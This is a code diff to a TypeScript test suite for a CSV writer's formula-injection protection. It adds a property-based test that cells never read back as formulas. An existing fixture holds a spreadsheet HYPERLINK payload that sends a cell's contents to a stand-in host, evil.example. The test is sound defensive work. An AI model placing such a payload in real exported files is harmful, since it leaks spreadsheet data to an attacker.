@@ -1,6 +1,7 @@
 import { readdirSync, readFileSync } from 'node:fs';
 import { join, resolve } from 'node:path';
 import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { csvMoney, neutraliseCsvText, writeCsv } from '../src/csv.ts';
 
@@ -62,6 +63,22 @@ describe('CSV cells (formula injection)', () => {
   it('the delimiter, quotes and line breaks inside a neutralised cell survive a round trip', () => {
     const name = '=HYPERLINK("http://evil.example/?x="&A1;"x")\nfim';
     expect(cells(write([[name, null]]))).toEqual([[`'${name}`, '']]);
+  });
+
+  it('whatever the text, the cell read back is the text itself or the text behind one quote, never a formula', () => {
+    const text = fc.oneof(
+      fc.string(),
+      fc
+        .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', ' ', '\n', ';', '"'), fc.string())
+        .map(([a, b]) => a + b),
+    );
+    fc.assert(
+      fc.property(text, (s) => {
+        const [[cell]] = cells(write([[s]])) as [[string]];
+        expect(cell === s || cell === `'${s}`).toBe(true);
+        expect(cell).not.toMatch(/^(?:[\t\r]|\s*[=+\-@])/);
+      }),
+    );
   });
 
   it('the header and the byte order mark are written on request', () => {
